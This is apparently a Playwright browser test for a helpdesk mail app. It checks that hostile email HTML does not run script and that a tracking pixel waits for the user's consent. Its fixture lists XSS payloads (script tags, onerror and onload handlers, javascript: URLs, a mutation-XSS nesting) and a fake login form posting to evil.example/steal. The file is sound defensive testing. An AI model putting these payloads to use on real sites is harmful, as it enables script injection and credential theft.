"""Hostile mail opened by an agent in Chromium: nothing in it runs, no tracking pixel fires until
the agent asks for images."""

from __future__ import annotations

import http.server
import threading

import pytest
from playwright.sync_api import expect

from fyr.mail import services
from fyr.mail.choices import MailSource
from fyr.mail.models import Mailbox
from tests.conftest import PASSWORD
from tests.mail.factories import make_mail

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

PWN = "window.__pwned=(window.__pwned||0)+1"

HOSTILE_HTML = f"""
<p>Hej! Se bifogat.</p>
<script>{PWN}</script>
<img src="x" onerror="{PWN}">
<svg onload="{PWN}"><circle r="1"/></svg>
<a href="javascript:{PWN}" id="jslink">klicka här</a>
<iframe src="javascript:{PWN}"></iframe>
<form action="https://evil.example/steal"><input name="pw"><button>Logga in</button></form>
<div style="background:url(javascript:{PWN})">stil</div>
<math><mtext><table><mglyph><style><img src=x onerror="{PWN}"></style></mglyph></table></mtext></math>
<object data="javascript:{PWN}"></object>
<base href="javascript:{PWN}//">
<meta http-equiv="refresh" content="0;url=javascript:{PWN}">
"""


@pytest.fixture
def pixel_server():
    """A remote image host that counts how often it is asked for the pixel."""
    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/gif")
            self.end_headers()
            self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server.server_address[1], hits
    server.shutdown()


def _log_in(page, agent):
    page.goto("/desk/login/")
    page.get_by_label("Email").fill(agent.email)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Log in").click()


def test_xss_in_body_subject_sender_and_file_name_does_not_run(page, agent, support, pixel_server):
    port, hits = pixel_server
    Mailbox.objects.create(address="support@fyr.test", team=support, auto_reply=False)
    raw = make_mail(
        sender=f'"<img src=x onerror={PWN}>" <karin@acme.se>',
        subject=f"<script>{PWN}</script> Faktura <img src=x onerror={PWN}>",
        html=HOSTILE_HTML + f'<img src="http://127.0.0.1:{port}/pixel.gif" alt="spårning">',
        attachments=[(f'"><img src=x onerror={PWN}>.pdf', "application/pdf", b"%PDF-1.4")],
    )
    ticket = services.ingest(raw, source=MailSource.HTTP).ticket
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))

    _log_in(page, agent)
    page.goto(f"/desk/tickets/{ticket.number}/")
    expect(page.locator("#timeline")).to_contain_text("Hej! Se bifogat.")
    page.get_by_text("klicka här").click()
    page.wait_for_timeout(300)

    assert page.evaluate("window.__pwned || 0") == 0
    assert dialogs == []
    assert hits == []  # the tracking pixel did not fire on opening

    page.get_by_role("button", name="Load remote images").first.click()
    page.wait_for_timeout(500)
    assert hits == ["/pixel.gif"]
    assert page.evaluate("window.__pwned || 0") == 0
